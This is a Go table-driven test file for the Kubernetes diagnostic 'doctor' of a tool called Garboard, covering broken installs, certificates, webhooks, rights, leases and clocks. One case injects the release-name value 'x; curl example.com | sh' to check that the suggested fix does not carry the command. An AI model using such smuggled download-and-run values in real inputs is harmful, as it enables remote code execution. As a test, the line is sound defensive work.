package doctor

import (
	"context"
	"errors"
	"net"
	"strings"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	core "k8s.io/client-go/testing"
	"k8s.io/utils/ptr"

	"github.com/garboard-dev/garboard/updater/report"
)

func forbidden(resource string) error {
	return apierrors.NewForbidden(schema.GroupResource{Resource: resource}, "", errors.New("no"))
}

// found is what a test looks for in a finding.
type found struct {
	severity      Severity
	check, object string
	message, mend string
}

func TestDoctorFindsWhatIsBroken(t *testing.T) {
	for name, tt := range map[string]struct {
		breaks    func(t *testing.T, w *world)
		namespace string
		want      []found // all that is worse than a note
	}{
		"nothing": {},
		"a cluster that is too old": {
			breaks: func(_ *testing.T, w *world) { w.minor = "29+" },
			want:   []found{{Failure, "kubernetes", "", "v1.29", "1.30 or newer"}},
		},
		"the oldest cluster that will do": {breaks: func(_ *testing.T, w *world) { w.minor = "30" }},
		"no webhook": {
			breaks: func(_ *testing.T, w *world) { w.withoutWebhook = true },
			want: []found{
				{Failure, "installation", "deployment/garboard-webhook", `not in namespace "garboard"`, "kubectl apply --server-side --force-conflicts -f manifests/install.yaml"},
				{Unknown, "versions", "", "a Deployment is missing", ""},
			},
		},
		"no updater, where Helm has installed": {
			breaks: func(_ *testing.T, w *world) {
				w.withoutUpdater = true
				w.webhook.Annotations = map[string]string{releaseAnnotation: "gb"}
			},
			want: []found{
				{Failure, "installation", "deployment/garboard-updater", "not in namespace", "helm upgrade gb manifests/chart --namespace garboard"},
				{Unknown, "versions", "", "a Deployment is missing", ""},
			},
		},
		"no replica of the webhook is wanted": {
			breaks: func(_ *testing.T, w *world) { w.webhook.Spec.Replicas = ptr.To[int32](0) },
			want:   []found{{Failure, "installation", "deployment/garboard-webhook", "scaled to no replica", "scale deployment/garboard-webhook --replicas=2"}},
		},
		"an image that cannot be pulled": {
			breaks: func(_ *testing.T, w *world) {
				w.updater.Status.ReadyReplicas = 0
				w.more = append(w.more, &corev1.Pod{
					ObjectMeta: metav1.ObjectMeta{Name: "u", Namespace: "garboard", Labels: w.updater.Spec.Selector.MatchLabels},
					Status: corev1.PodStatus{ContainerStatuses: []corev1.ContainerStatus{{State: corev1.ContainerState{
						Waiting: &corev1.ContainerStateWaiting{Reason: "ImagePullBackOff", Message: "not found"}}}}},
				})
			},
			want: []found{{Failure, "installation", "deployment/garboard-updater", "none of 2 replicas is ready; Pod u: ImagePullBackOff not found", "describe pods"}},
		},
		"a replica that is not ready": {
			breaks: func(_ *testing.T, w *world) { w.webhook.Status.ReadyReplicas = 1 },
			want:   []found{{Warning, "installation", "deployment/garboard-webhook", "1 of 2 replicas", "describe pods"}},
		},
		"one replica": {
			breaks: func(_ *testing.T, w *world) {
				w.webhook.Spec.Replicas, w.webhook.Status.ReadyReplicas = ptr.To[int32](1), 1
			},
			want: []found{{Warning, "installation", "deployment/garboard-webhook", "one replica", "--replicas=2"}},
		},
		"Pods that could not be made": {
			breaks: func(_ *testing.T, w *world) {
				w.webhook.Status = appsv1.DeploymentStatus{Conditions: []appsv1.DeploymentCondition{{
					Type: appsv1.DeploymentReplicaFailure, Status: corev1.ConditionTrue, Message: `serviceaccount "garboard-webhook" not found`,
				}}}
			},
			want: []found{{Failure, "installation", "deployment/garboard-webhook", `none of 2 replicas is ready; serviceaccount "garboard-webhook" not found`, "describe pods"}},
		},
		"a Service that leads to no Pod": {
			breaks: func(_ *testing.T, w *world) { w.endpoints.Endpoints = nil },
			want:   []found{{Failure, "installation", "service/garboard-webhook", "its selector is another", "install.yaml"}},
		},
		"no Service": {
			breaks: func(_ *testing.T, w *world) { w.more = nil },
			want:   []found{{Failure, "installation", "service/garboard-webhook", "is not there", "install.yaml"}},
		},
		"a release name that is a command": {
			breaks: func(_ *testing.T, w *world) {
				w.webhook.Annotations = map[string]string{releaseAnnotation: "x; curl example.com | sh"}
				w.withoutMutating = true
			},
			want: []found{{Failure, "webhooks", mutatingObject, "is not there", "kubectl apply --server-side --force-conflicts -f manifests/install.yaml"}},
		},
		"a CA that has expired": {
			breaks: func(t *testing.T, w *world) {
				w.now = w.now.Add(87600*time.Hour + time.Minute)
				w.serverTime, w.lease.Spec.RenewTime.Time, w.lease.ManagedFields[0].Time.Time = w.now, w.now, w.now
				w.serve(t, w.ca, w.now.Add(1000*time.Hour), "garboard-webhook.garboard.svc")
			},
			want: []found{
				{Failure, "certificates", mutatingObject, "expired", "kubectl -n garboard delete secret garboard-ca garboard-webhook-tls"},
				{Failure, "certificates", validatingObject, "expired", "kubectl -n garboard delete secret garboard-ca garboard-webhook-tls"},
				{Failure, "certificates", validatingObject, "expired", "kubectl -n garboard delete secret garboard-ca garboard-webhook-tls"},
			},
		},
		"Garboard that refuses the probe": {
			breaks: func(_ *testing.T, w *world) {
				w.admit = func(*appsv1.Deployment) (*appsv1.Deployment, error) {
					return nil, errors.New(`admission webhook "mutate.garboard.dev" denied the request: no answer of the registry`)
				}
			},
		},
		"versions apart": {
			breaks: func(_ *testing.T, w *world) {
				w.updater.Spec.Template.Spec.Containers[0].Image = "ghcr.io/garboard-dev/garboard:v0.2.0"
			},
			want: []found{{Warning, "versions", "deployment/garboard-updater", "v0.2.0, and the webhook runs ghcr.io/garboard-dev/garboard:v0.1.0", "set image deployment/garboard-updater updater="}},
		},
		"versions too far apart": {
			breaks: func(_ *testing.T, w *world) { w.run("v0.1.0", "v0.3.0") },
			want:   []found{{Warning, "versions", "deployment/garboard-updater", "garboard:v0.1.0, more than one minor version apart", "set image deployment/garboard-updater updater="}},
		},
		"major versions apart": {
			breaks: func(_ *testing.T, w *world) { w.run("v1.0.0", "v0.1.0") },
			want:   []found{{Warning, "versions", "deployment/garboard-updater", "garboard:v1.0.0, more than one minor version apart", "garboard:v1.0.0"}},
		},
		"a program as new as it may be": {breaks: func(_ *testing.T, w *world) { w.version = "v0.3.0" }},
		"a program as old as it may be": {
			breaks: func(_ *testing.T, w *world) { w.run("v0.3.0", "v0.3.0"); w.version = "v0.1.0" },
		},
		"a program that is too old": {
			breaks: func(_ *testing.T, w *world) { w.run("v0.4.0", "v0.4.0"); w.version = "v0.1.0" },
			want:   []found{{Warning, "versions", "", "0.4.0 is installed", "version 0.4.0"}},
		},
		"a program of another major version": {
			breaks: func(_ *testing.T, w *world) { w.version = "v1.1.0" },
			want:   []found{{Warning, "versions", "", "0.1.0 is installed", "version 0.1.0"}},
		},
		"images that tell no version": {
			breaks: func(_ *testing.T, w *world) { w.run("main", "main"); w.version = "v9.0.0" },
		},
		"a program that is too new": {
			breaks: func(_ *testing.T, w *world) { w.version = "v0.4.0-3-gabcdef0" },
			want:   []found{{Warning, "versions", "", "0.1.0 is installed", "version 0.1.0"}},
		},
		"no certificate": {
			breaks: func(_ *testing.T, w *world) { w.withoutSecret = true },
			want:   []found{{Failure, "certificates", "secret/garboard-webhook-tls", "is not there", "create secret tls garboard-webhook-tls"}},
		},
		"a certificate that is not issued": {
			breaks: func(_ *testing.T, w *world) {
				w.withoutSecret = true
				w.custom(`{apiVersion: cert-manager.io/v1, kind: Certificate, metadata: {name: garboard-webhook, namespace: garboard},
					status: {conditions: [{type: Ready, status: "False", message: issuer not found}]}}`)
			},
			want: []found{
				{Failure, "certificates", "certificate/garboard-webhook", "issuer not found", "describe certificate"},
				{Failure, "certificates", "secret/garboard-webhook-tls", "is not there", "describe certificate garboard-webhook"},
			},
		},
		"a Secret without its key": {
			breaks: func(_ *testing.T, w *world) { delete(w.secret.Data, corev1.TLSPrivateKeyKey) },
			want:   []found{{Failure, "certificates", "secret/garboard-webhook-tls", "no certificate with its key", "create secret tls"}},
		},
		"an expired certificate": {
			breaks: func(t *testing.T, w *world) {
				w.serve(t, w.ca, w.now.Add(-time.Minute), "garboard-webhook.garboard.svc")
			},
			want: []found{{Failure, "certificates", "secret/garboard-webhook-tls", "expired at 2026-11-29T11:59:00Z", "delete secret garboard-webhook-tls"}},
		},
		"a certificate that nobody renews": {
			breaks: func(t *testing.T, w *world) {
				w.serve(t, w.ca, w.now.Add(24*time.Hour), "garboard-webhook.garboard.svc")
			},
			want: []found{{Warning, "certificates", "secret/garboard-webhook-tls", "not renewed yet", "delete secret"}},
		},
		"a certificate for another name": {
			breaks: func(t *testing.T, w *world) { w.serve(t, w.ca, w.now.Add(2000*time.Hour), "garboard.example.com") },
			want:   []found{{Failure, "certificates", "secret/garboard-webhook-tls", `not for garboard-webhook.garboard.svc, but for ["garboard.example.com"]`, "delete secret"}},
		},
		"a CA that has not signed the certificate": {
			breaks: func(t *testing.T, w *world) {
				w.validating.Webhooks[1].ClientConfig.CABundle = newAuthority(t, w.now).bundle
			},
			want: []found{{Failure, "certificates", validatingObject, "webhook validate-namespace.garboard.dev: the caBundle does not vouch", "rollout restart deployment cert-manager-cainjector"}},
		},
		"no CA, and nobody who brings it": {
			breaks: func(_ *testing.T, w *world) {
				w.mutating.Webhooks[0].ClientConfig.CABundle, w.mutating.Annotations = nil, nil
			},
			want: []found{{Failure, "certificates", mutatingObject, "it is empty", "annotate mutatingwebhookconfiguration garboard cert-manager.io/inject-ca-from=garboard/garboard-webhook"}},
		},
		"no mutating webhook": {
			breaks: func(_ *testing.T, w *world) { w.withoutMutating = true },
			want:   []found{{Failure, "webhooks", mutatingObject, "is not there", "install.yaml"}},
		},
		"no definitions of updates and votes": {
			breaks: func(_ *testing.T, w *world) { w.withoutVotes = true },
			want: []found{
				{Failure, "approvals", "customresourcedefinition/imageupdates.garboard.dev", "is not there", "install.yaml"},
				{Failure, "approvals", "customresourcedefinition/imageupdatevotes.garboard.dev", "is not there", "install.yaml"},
			},
		},
		"votes in another's name": {
			breaks: func(_ *testing.T, w *world) {
				w.binding("garboard-votes").Spec.ValidationActions = []admissionregistrationv1.ValidationAction{admissionregistrationv1.Warn}
			},
			want: []found{{Failure, "approvals", "validatingadmissionpolicybinding/garboard-votes", "does not deny", "install.yaml"}},
		},
		"updates by another account": {
			breaks: func(_ *testing.T, w *world) { w.binding("garboard-updates").Name = "other" },
			want:   []found{{Failure, "approvals", "validatingadmissionpolicybinding/garboard-updates", "is missing", "install.yaml"}},
		},
		"a policy of votes that was changed, and no updater that has noted it": {
			breaks: func(_ *testing.T, w *world) { w.binding("garboard-votes").Generation = 3 },
			want:   []found{{Warning, "approvals", "lease/garboard-approvals", "does not tell yet since when", "logs deployment/garboard-updater"}},
		},
		"no validating webhook": {
			breaks: func(_ *testing.T, w *world) { w.withoutValidating = true },
			want:   []found{{Failure, "webhooks", validatingObject, "is not there", "install.yaml"}},
		},
		"a webhook of another installation": {
			breaks: func(_ *testing.T, w *world) { w.mutating.Webhooks[0].ClientConfig.Service.Namespace = "old" },
			want:   []found{{Failure, "webhooks", mutatingObject, "asks old/garboard-webhook", "install.yaml"}},
		},
		"a webhook of an installation elsewhere": {
			breaks: func(_ *testing.T, w *world) {
				w.withoutWebhook = true
				w.mutating.Webhooks[0].ClientConfig.Service.Namespace = "platform"
			},
			want: []found{
				{Failure, "installation", "deployment/garboard-webhook", "not in namespace", ""},
				{Unknown, "versions", "", "a Deployment is missing", ""},
				{Failure, "webhooks", mutatingObject, "asks platform/garboard-webhook", "garboard doctor --garboard-namespace=platform (if that is the one; else kubectl apply"},
			},
		},
		"a webhook that is asked at another port": {
			breaks: func(_ *testing.T, w *world) { w.mutating.Webhooks[0].ClientConfig.Service.Port = ptr.To[int32](9443) },
			want:   []found{{Failure, "webhooks", mutatingObject, "mutate.garboard.dev asks port 9443, and service/garboard-webhook has 443", "install.yaml"}},
		},
		"a webhook that names no port": {
			breaks: func(_ *testing.T, w *world) { w.mutating.Webhooks[0].ClientConfig.Service.Port = nil },
		},
		"webhooks that are asked at another path, or none": {
			breaks: func(_ *testing.T, w *world) {
				w.mutating.Webhooks[0].ClientConfig.Service.Path = ptr.To("/validate")
				w.validating.Webhooks[1].ClientConfig.Service.Path = nil
			},
			want: []found{
				{Failure, "webhooks", mutatingObject, `asks path "/validate", and Garboard answers at /mutate`, "install.yaml"},
				{Failure, "webhooks", validatingObject, `validate-namespace.garboard.dev asks path "/", and Garboard answers at /validate`, "install.yaml"},
			},
		},
		"namespaces that may not be read": {
			breaks: func(_ *testing.T, w *world) {
				w.react = func(a core.Action) (bool, runtime.Object, error) {
					return a.Matches("list", "namespaces"), nil, forbidden("namespaces")
				}
			},
			want: []found{
				{Unknown, "namespaces", "namespaces", "forbidden", ""},
				{Unknown, "admission", "", "namespaces could not be read; name one that has opted in: --namespace", ""},
				{Unknown, "workloads", "", "namespaces could not be read", ""},
			},
		},
		"a webhook for the whole cluster": {
			breaks: func(_ *testing.T, w *world) { w.mutating.Webhooks[0].NamespaceSelector = nil },
			want: []found{
				{Failure, "webhooks", mutatingObject, "have not opted in", "install.yaml"},
				{Failure, "webhooks", mutatingObject, `namespace "garboard"`, "install.yaml"},
				{Failure, "webhooks", mutatingObject, `namespace "cert-manager"`, "install.yaml (or name cert-manager's namespace: --cert-manager-namespace)"},
				{Failure, "webhooks", mutatingObject, `namespace "kube-system"`, "install.yaml"},
			},
		},
		"a rule that is missing": {
			breaks: func(_ *testing.T, w *world) { w.mutating.Webhooks[0].Rules = w.mutating.Webhooks[0].Rules[:2] },
			want:   []found{{Failure, "webhooks", mutatingObject, "is not asked about cronjobs.batch, jobs.batch", "install.yaml"}},
		},
		"a custom kind without a rule": {
			breaks: func(_ *testing.T, w *world) {
				for _, d := range []*appsv1.Deployment{w.webhook, w.updater} {
					d.Spec.Template.Spec.Containers[0].Args = append(d.Spec.Template.Spec.Containers[0].Args, "--custom-kinds=Rollout.v1alpha1.argoproj.io=spec.template")
				}
			},
			want: []found{
				{Failure, "webhooks", mutatingObject, "rollouts.argoproj.io", "install.yaml"},
				{Failure, "webhooks", validatingObject, "rollouts.argoproj.io", "install.yaml"},
			},
		},
		"no matchConditions, and asked once": {
			breaks: func(_ *testing.T, w *world) {
				w.mutating.Webhooks[0].MatchConditions = nil
				w.mutating.Webhooks[0].ReinvocationPolicy = ptr.To(admissionregistrationv1.NeverReinvocationPolicy)
			},
			want: []found{
				{Warning, "webhooks", mutatingObject, "no matchConditions", "install.yaml"},
				{Warning, "webhooks", mutatingObject, "asked once", "install.yaml"},
			},
		},
		"no namespace that opted in": {
			breaks: func(_ *testing.T, w *world) { w.team.Labels = nil },
			want: []found{
				{Warning, "namespaces", "", "no namespace has opted in", "kubectl label namespace my-team garboard.dev/enabled=true"},
				{Unknown, "admission", "", "no namespace has opted in", ""},
			},
		},
		"a label that opts in nothing, and one where it does nothing": {
			breaks: func(_ *testing.T, w *world) {
				w.more = append(w.more,
					&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "blog", Labels: map[string]string{"garboard.dev/enabled": "yes"}}},
					&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "kube-system", Labels: map[string]string{"garboard.dev/enabled": "true"}}})
			},
			want: []found{
				{Warning, "namespaces", "namespace/blog", "garboard.dev/enabled=yes, which opts in nothing", "kubectl label namespace blog garboard.dev/enabled=true --overwrite"},
				{Warning, "namespaces", "namespace/kube-system", "no webhook is asked", "kubectl label namespace kube-system garboard.dev/enabled-"},
			},
		},
		"settings of a namespace": {
			breaks: func(_ *testing.T, w *world) { w.team.Annotations = map[string]string{"garboard.dev/minAge": "soon"} },
			want:   []found{{Warning, "namespaces", "namespace/team", `metadata.annotations[garboard.dev/minAge]: Invalid value: "soon"`, "kubectl annotate namespace team garboard.dev/minAge=VALUE"}},
		},
		"an API server that does not reach the webhook": {
			breaks: func(_ *testing.T, w *world) {
				w.admit = func(*appsv1.Deployment) (*appsv1.Deployment, error) {
					return nil, apierrors.NewInternalError(errors.New(`failed calling webhook "mutate.garboard.dev": no endpoints available for service "garboard-webhook"`))
				}
			},
			want: []found{{Failure, "admission", "namespace/team", "no endpoints available", "kubectl -n garboard get pods,endpointslices"}},
		},
		"an API server that does not trust the webhook": {
			breaks: func(_ *testing.T, w *world) {
				w.admit = func(*appsv1.Deployment) (*appsv1.Deployment, error) {
					return nil, apierrors.NewInternalError(errors.New(`failed calling webhook "mutate.garboard.dev": tls: failed to verify certificate: x509: certificate signed by unknown authority`))
				}
			},
			want: []found{{Failure, "admission", "namespace/team", "unknown authority", "rollout restart deployment/garboard-webhook"}},
		},
		"another webhook that does not answer": {
			breaks: func(_ *testing.T, w *world) {
				w.admit = func(*appsv1.Deployment) (*appsv1.Deployment, error) {
					return nil, apierrors.NewInternalError(errors.New(`failed calling webhook "policy.example.com": timeout`))
				}
			},
			want: []found{{Unknown, "admission", "namespace/team", "another webhook does not answer", ""}},
		},
		"a person without rights": {
			breaks: func(_ *testing.T, w *world) {
				w.forbidReviews = true
				w.admit = func(*appsv1.Deployment) (*appsv1.Deployment, error) { return nil, forbidden("deployments") }
				w.status.err = forbidden("leases")
			},
			want: []found{
				{Unknown, "admission", "namespace/team", "could not be looked at", ""},
				{Unknown, "rights", "serviceaccount/garboard-webhook", "you may not create subjectaccessreviews", ""},
				{Unknown, "registries", "", "forbidden", "--role=garboard-status"},
			},
		},
		"a dry run that comes back as it was": {
			breaks: func(_ *testing.T, w *world) {
				w.admit = func(d *appsv1.Deployment) (*appsv1.Deployment, error) { return d, nil }
			},
			want: []found{{Failure, "admission", "namespace/team", "came back as it was sent", "installation, certificates and webhooks"}},
		},
		"a port that does not answer": {
			breaks: func(_ *testing.T, w *world) {
				w.dial = func(context.Context) (net.Conn, error) { return nil, errors.New("connection refused") }
			},
			want: []found{{Failure, "handshake", "service/garboard-webhook", "connection refused", "get endpointslices,networkpolicies,pods"}},
		},
		"a port that a NetworkPolicy keeps from the caller": {
			breaks: func(_ *testing.T, w *world) {
				w.dial = func(context.Context) (net.Conn, error) { return nil, errors.New("connection refused") }
				w.objects = append(w.objects, networkPolicy("garboard-webhook", "webhook", "Ingress"))
			},
			want: []found{{Unknown, "handshake", "service/garboard-webhook", "perhaps since networkpolicy/garboard-webhook lets in only those whom it names: connection refused", ""}},
		},
		"a port that does not answer, with NetworkPolicies of other Pods and ways": {
			breaks: func(_ *testing.T, w *world) {
				w.dial = func(context.Context) (net.Conn, error) { return nil, errors.New("connection refused") }
				w.objects = append(w.objects, networkPolicy("garboard-updater", "updater", "Ingress"), networkPolicy("out", "webhook", "Egress"))
			},
			want: []found{{Failure, "handshake", "service/garboard-webhook", "connection refused", "get endpointslices,networkpolicies,pods"}},
		},
		"Pods with an old certificate": {
			breaks: func(t *testing.T, w *world) {
				certificate, key := newAuthority(t, w.now).issue(t, w.now, w.now.Add(time.Hour), "garboard-webhook.garboard.svc")
				w.dial = listen(t, certificate, key)
			},
			want: []found{{Failure, "handshake", "service/garboard-webhook", "unknown authority", "rollout restart deployment/garboard-webhook"}},
		},
		"an updater that may not move workloads, nor elect a leader": {
			breaks: func(_ *testing.T, w *world) {
				w.forbidden = func(a *authorizationv1.ResourceAttributes) bool {
					return a.Verb == "patch" && a.Resource == "deployments" || a.Resource == "leases"
				}
			},
			want: []found{
				{Failure, "rights", "serviceaccount/garboard-updater", `may not patch deployments.apps in the whole cluster`, "install.yaml"},
				{Failure, "rights", "serviceaccount/garboard-updater", `may not create leases.coordination.k8s.io in namespace "garboard"`, "install.yaml"},
				{Failure, "rights", "serviceaccount/garboard-updater", `may not get, update leases.coordination.k8s.io/garboard-updater`, "install.yaml"},
				{Failure, "rights", "serviceaccount/garboard-updater", `may not get, delete leases.coordination.k8s.io/garboard-approvals`, "install.yaml"},
			},
		},
		"a feature without its right": {
			breaks: func(_ *testing.T, w *world) {
				w.updater.Spec.Template.Spec.Containers[0].Args = append(w.updater.Spec.Template.Spec.Containers[0].Args, "--shards=6")
				w.lease.Name = updaterName + "-shard-0"
				w.forbidden = func(a *authorizationv1.ResourceAttributes) bool { return a.Verb == "delete" && a.Resource == "leases" }
			},
			want: []found{
				{Failure, "rights", "serviceaccount/garboard-updater", "may not delete leases.coordination.k8s.io", "install.yaml"},
				{Failure, "leases", "leases", "no updater owns the shards 1, 2, 3, 4, 5", "logs"},
			},
		},
		"a workload whose settings are not understood": {
			breaks: func(_ *testing.T, w *world) {
				w.custom(`{apiVersion: apps/v1, kind: Deployment, metadata: {name: shop, namespace: team, annotations: {garboard.dev/policy: newst}},
					spec: {template: {spec: {containers: [{name: c, image: a}]}}}}`)
			},
			want: []found{{Warning, "workloads", "team deployment.apps/shop", `metadata.annotations[garboard.dev/policy]: Invalid value: "newst"`, "kubectl -n team annotate deployment.apps/shop garboard.dev/policy=VALUE --overwrite"}},
		},
		"no leader": {
			breaks: func(_ *testing.T, w *world) { w.withoutLease = true },
			want:   []found{{Failure, "leases", "lease/garboard-updater", "no updater leads", "rollout restart deployment/garboard-updater"}},
		},
		"a leader that is gone": {
			breaks: func(_ *testing.T, w *world) {
				w.lease.Spec.RenewTime.Time, w.lease.ManagedFields[0].Time.Time = w.now.Add(-time.Minute), w.now.Add(-time.Minute)
			},
			want: []found{{Failure, "leases", "lease/garboard-updater", "ran out", "logs"}},
		},
		"a clock here that is wrong": {
			breaks: func(_ *testing.T, w *world) { w.serverTime = w.now.Add(-time.Minute) },
			want:   []found{{Warning, "clocks", "", "the clock here and the API server's are 1m0s apart", "timedatectl"}},
		},
		"a node whose clock is wrong": {
			breaks: func(_ *testing.T, w *world) { w.lease.Spec.RenewTime.Time = w.now.Add(12 * time.Second) },
			want:   []found{{Warning, "clocks", "lease/garboard-updater", "the clock of garboard-updater-1 and the API server's are 12s apart", "get pods -o wide"}},
		},
		"a registry that does not answer": {
			breaks: func(_ *testing.T, w *world) {
				silent := w.status.items[0]
				silent.Name, silent.State, silent.Reason, silent.Message = "blog", report.StateUnknown, "RegistryUnavailable", "no route to host"
				w.status.items = append(w.status.items, silent)
			},
			want: []found{{Failure, "registries", "registry.corp", "for 1 of 2 containers; team/blog: RegistryUnavailable no route to host", "garboard registry check registry.corp/shop:1.2.0"}},
		},
		"the namespace kube-system": {
			breaks: func(_ *testing.T, w *world) {
				w.withoutWebhook, w.withoutUpdater, w.withoutSecret, w.withoutLease = true, true, true, true
				w.withoutMutating, w.withoutValidating = true, true
			},
			namespace: "kube-system",
			want: []found{
				{Failure, "installation", "namespace/kube-system", "Kubernetes' own", "--namespace garboard"},
				{Failure, "installation", "deployment/garboard-webhook", "is not in", ""},
				{Failure, "installation", "deployment/garboard-updater", "is not in", ""},
				{Unknown, "versions", "", "", ""},
				{Failure, "certificates", "", "", ""},
				{Failure, "webhooks", mutatingObject, "", ""},
				{Failure, "webhooks", validatingObject, "", ""},
				{Failure, "approvals", "validatingadmissionpolicy/garboard-votes", "has other variables", ""},
				{Failure, "leases", "", "", ""},
			},
		},
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t)
			if tt.breaks != nil {
				tt.breaks(t, w)
			}
			namespace := tt.namespace
			if namespace == "" {
				namespace = "garboard"
			}
			report := w.examine(t, namespace)
			compare(t, tt.want, report)
			if failures := failuresOf(tt.want); report.Failures() != failures {
				t.Errorf("%d failures, want %d", report.Failures(), failures)
			}
		})
	}
}

func failuresOf(all []found) int {
	n := 0
	for _, f := range all {
		if f.severity == Failure {
			n++
		}
	}
	return n
}

// compare looks for the findings that are worse than a note, one by one, and fails where
// there are others.
func compare(t *testing.T, want []found, report *Report) {
	t.Helper()
	var bad []Finding
	for _, f := range report.Findings {
		if f.Severity != OK && f.Severity != Note {
			bad = append(bad, f)
		}
		if (f.Severity == Failure || f.Severity == Warning) && (f.Why == "" || f.Mend == "") {
			t.Errorf("%s: %s: why %q, mend %q", f.Check, f.Message, f.Why, f.Mend)
		}
	}
	if len(bad) != len(want) {
		t.Fatalf("%d findings, want %d:\n%+v", len(bad), len(want), bad)
	}
	for i, f := range bad {
		w := want[i]
		if f.Severity != w.severity || f.Check != w.check || (w.object != "" && f.Object != w.object) ||
			!strings.Contains(f.Message, w.message) || !strings.Contains(f.Mend, w.mend) {
			t.Errorf("finding %d:\n got %+v\nwant %+v", i, f, w)
		}
	}
}
